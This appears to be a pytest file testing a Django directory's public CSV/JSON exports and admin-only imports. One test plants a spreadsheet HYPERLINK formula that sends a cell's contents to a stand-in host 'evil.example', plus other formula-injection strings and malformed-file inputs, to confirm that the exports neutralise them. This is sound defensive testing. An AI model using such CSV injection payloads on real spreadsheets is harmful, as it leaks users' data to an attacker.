"""data·inclusion exports (public) and import (region admins only) through the API."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from apps.directory.models import Service, Structure

pytestmark = pytest.mark.django_db
IMPORT = "/api/v1/imports/data-inclusion"


def test_json_exports(api, service_a):
    structures = api.get("/api/v1/exports/data-inclusion/structures.json")
    assert structures.status_code == 200
    assert "spro-cvl--structure-a" in [r["id"] for r in structures.json()]
    services = api.get("/api/v1/exports/data-inclusion/services.json").json()
    (record,) = [r for r in services if r["id"].startswith(f"spro-cvl--{service_a.pk}--")]
    assert record["lien_source"] == f"http://testserver/services/{service_a.pk}/"
    assert record["code_insee"] == "2A004"


def test_csv_exports(api, service_a):
    response = api.get("/api/v1/exports/data-inclusion/services.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    row = next(r for r in rows if r["id"].startswith(f"spro-cvl--{service_a.pk}--"))
    assert row["publics"] == "demandeurs-emploi" and row["structure_id"] == "spro-cvl--structure-a"
    assert api.get("/api/v1/exports/data-inclusion/structures.csv").status_code == 200


def _files(structures, services):
    return {
        "structures": SimpleUploadedFile("structures.json", json.dumps(structures).encode(), "application/json"),
        "services": SimpleUploadedFile("services.json", json.dumps(services).encode(), "application/json"),
    }


STRUCTURES = [{"source": "partenaire", "id": "partenaire--asso", "nom": "Association", "date_maj": "2025-01-01"}]
SERVICES = [
    {
        "source": "partenaire",
        "id": "partenaire--1",
        "structure_id": "partenaire--asso",
        "nom": "Permanence emploi",
        "description": "Une permanence pour l'emploi.",
        "date_maj": "2025-01-01",
        "adresse": "1 cours Napoléon",
        "code_insee": "2A004",
    }
]


def test_region_admin_imports(api, region_admin, ajaccio):
    api.force_login(region_admin)
    response = api.post(IMPORT, _files(STRUCTURES, SERVICES), format="multipart")
    assert response.status_code == 200, response.json()
    assert response.json()["services_created"] == 1 and response.json()["places_created"] == 1
    assert Service.objects.get(source_id="partenaire--1").places.get().commune_id == "2A004"


def test_import_errors_are_a_400_list(api, region_admin, ajaccio):
    api.force_login(region_admin)
    bad = [dict(SERVICES[0], nom="ab"), dict(SERVICES[0], id="partenaire--2", code_insee="99999")]
    response = api.post(IMPORT, _files(STRUCTURES, bad), format="multipart")
    assert response.status_code == 400
    assert response.json() == {
        "errors": [
            "services.json, enregistrement n° 1 (id « partenaire--1 ») : champ « nom » : "
            "doit contenir au moins 3 caractères.",
            "services.json, enregistrement n° 2 (id « partenaire--2 ») : champ « code_insee » : "
            "aucune commune ne porte le code INSEE « 99999 ».",
        ]
    }
    assert not Structure.objects.filter(slug="partenaire-asso").exists()


def test_import_without_file(api, region_admin):
    api.force_login(region_admin)
    response = api.post(IMPORT, {}, format="multipart")
    assert response.status_code == 400 and response.json()["errors"][0].startswith("Aucun fichier")


@pytest.mark.parametrize("who", [None, "member_a"])
def test_only_region_admins_import(api, request, who, ajaccio):
    if who:
        api.force_login(request.getfixturevalue(who))
    response = api.post(IMPORT, _files(STRUCTURES, SERVICES), format="multipart")
    assert response.status_code == 403
    assert not Structure.objects.filter(slug="partenaire-asso").exists()


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.mark.parametrize("kind", ["structures", "services"])
def test_csv_exports_neutralise_formulas(api, service_a, kind):
    """A member can rename its structure and service: the public CSV must not carry a formula (review M1)."""
    Structure.objects.filter(pk=service_a.structure_id).update(name=HYPERLINK)
    Service.objects.filter(pk=service_a.pk).update(name="@SUM(A1)", description="-2+3 " + HYPERLINK)
    text = api.get(f"/api/v1/exports/data-inclusion/{kind}.csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'") for cell in cells)


@pytest.mark.parametrize(
    "day, error",
    [
        ("0001-01-01", "la date ne peut pas précéder l'année 2014."),
        ("2999-01-01", "la date ne peut pas dépasser aujourd'hui."),
    ],
)
def test_an_import_dated_out_of_range_is_refused(api, region_admin, ajaccio, day, error):
    """An update date is a fact of the past, within the platform's life (review M8: dates in imports too)."""
    api.force_login(region_admin)
    response = api.post(IMPORT, _files(STRUCTURES, [dict(SERVICES[0], date_maj=day)]), format="multipart")
    assert response.status_code == 400
    assert response.json()["errors"] == [
        f"services.json, enregistrement n° 1 (id « partenaire--1 ») : champ « date_maj » : {error}"
    ]


@pytest.mark.parametrize(
    "name, content, error",
    [
        ("services.json", b"[" * 100_000, "services.json : JSON trop imbriqué"),
        ("services.csv", b"id,nom\nx," + b"a" * 140_000 + b"\n", "services.csv : fichier CSV illisible"),
    ],
)
def test_an_unreadable_import_is_a_400(api, region_admin, name, content, error):
    """A RecursionError and a csv.Error were 500s (review L1)."""
    api.force_login(region_admin)
    response = api.post(IMPORT, {"services": SimpleUploadedFile(name, content)}, format="multipart")
    assert response.status_code == 400 and response.json()["errors"][0].startswith(error)


def test_our_own_csv_imports_back_unchanged(api, region_admin, service_a):
    """The export's neutralising apostrophe is removed on import: names round-trip."""
    Service.objects.filter(pk=service_a.pk).update(name="-2+3 atelier")
    text = api.get("/api/v1/exports/data-inclusion/services.csv").content.decode()
    assert "'-2+3 atelier" in text
    from apps.directory.exchange import read_file

    (records,) = read_file("services.csv", text.encode(), "service").values()
    assert "-2+3 atelier" in [r.get("nom") for r in records.records]
